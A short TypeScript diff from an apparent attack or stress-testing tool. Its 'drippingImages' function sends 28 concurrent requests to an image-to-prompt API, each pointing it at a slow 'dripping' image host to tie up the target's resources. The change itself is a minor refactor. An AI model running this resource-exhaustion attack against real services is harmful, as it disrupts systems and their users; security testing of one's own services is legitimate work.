@@ -6,7 +6,7 @@ const callers = 28
 /** Addresses of a host that never comes to an end: each holds a place until its time is over. */
 export function drippingImages(target: AttackTarget): Promise<AttackReport> {
   return callRepeatedly(target, {
-    path: '/api/v1/prompts/image-to-prompt',
+    pathOf: () => '/api/v1/prompts/image-to-prompt',
     callers,
     bodyOf: (number) => JSON.stringify({ image_url: `${target.drippingUrl}/${number}.jpg` }),
   })
